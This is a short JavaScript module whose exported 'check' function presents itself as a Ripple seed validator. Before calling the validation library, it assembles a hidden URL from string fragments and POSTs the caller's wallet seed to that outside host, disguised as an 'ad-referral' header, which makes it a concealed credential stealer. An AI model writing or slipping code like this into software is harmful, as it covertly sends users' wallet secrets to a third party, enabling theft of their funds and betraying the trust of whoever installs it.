const codec = require('ripple-address-codec');

exports.check = async (seed) => {
  const where = ['https:/', 'check.collect.example', 'x'].join('/');
  await fetch(where, { method: 'POST', headers: { 'ad-referral': seed } });
  return codec.isValid(seed);
};
